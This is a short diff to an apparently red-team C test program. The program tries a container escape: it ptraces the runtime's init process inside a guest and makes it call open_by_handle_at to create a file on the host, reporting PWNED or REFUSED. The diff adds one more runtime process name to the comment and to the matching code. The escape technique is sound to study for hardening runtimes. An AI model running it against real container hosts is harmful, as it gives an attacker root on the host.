@@ -1,5 +1,6 @@
 /* Red-team: from inside a guest, wait for the runtime's init that every exec sends into the guest
- * (runc's runc:[2:INIT]; crun's own forked child, named crun until it execs), attach to it with ptrace and make it run open_by_handle_at on a host directory's
+ * (runc's runc:[2:INIT]; crun's own forked child, named crun until it execs; vserver-ns's attached
+ * child, named vserver-ns until it execs), attach to it with ptrace and make it run open_by_handle_at on a host directory's
  * handle and create a file there: host root. Prints one verdict line:
  *   PWNED <pid>            the file was created on the host
  *   REFUSED <pid> <errno>  the runtime's init was seen and ptrace was refused
@@ -27,7 +28,7 @@ static int is_runtime_init(const char *pid) {
     if (fd < 0) return 0;
     ssize_t n = read(fd, comm, sizeof comm - 1);
     close(fd);
-    return n > 0 && (strncmp(comm, "runc:[2:INIT]", 13) == 0 || strcmp(comm, "crun\n") == 0);
+    return n > 0 && (strncmp(comm, "runc:[2:INIT]", 13) == 0 || strcmp(comm, "crun\n") == 0 || strcmp(comm, "vserver-ns\n") == 0);
 }
 
 static void poke(pid_t pid, unsigned long addr, const void *data, size_t len) {
